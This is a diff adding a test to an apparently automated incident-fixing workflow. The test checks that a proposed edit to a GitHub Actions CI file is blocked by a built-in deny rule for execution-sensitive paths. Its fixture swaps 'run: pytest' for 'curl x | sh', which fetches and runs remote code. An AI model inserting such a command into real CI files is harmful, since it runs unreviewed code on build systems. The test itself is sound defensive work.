@@ -270,3 +270,22 @@ async def test_messages_carry_a_digest_of_the_incident_not_its_whole_record(
         assert request.incident.evidence.related_code == []
         assert request.incident.evidence.summary  # what people read is still there
     await handle.terminate("test done")
+
+
+async def test_a_ci_definition_edit_under_the_default_scope_ends_triaged_naming_the_rule(
+    client: Client, task_queue: str, fakes: FakeActivities
+) -> None:
+    # `allowed_paths = ["**"]` is the default: the built-in deny list still holds.
+    fakes.diagnosis = fix_diagnosis(
+        Edit(path=".github/workflows/ci.yml", search="run: pytest", replace="run: curl x | sh")
+    )
+    handle = await start_incident(client, task_queue, make_start(allowed_paths=("**",)))
+
+    status = await finished(handle)
+
+    assert status.phase == Phase.TRIAGED
+    assert status.reason == (
+        "edit to '.github/workflows/ci.yml' touches an execution-sensitive file "
+        "(built-in rule '.github/**'); lift it with services.shop.allow_execution_sensitive_paths"
+    )
+    assert "prepare_patch" not in fakes.calls and "verify_patch" not in fakes.calls
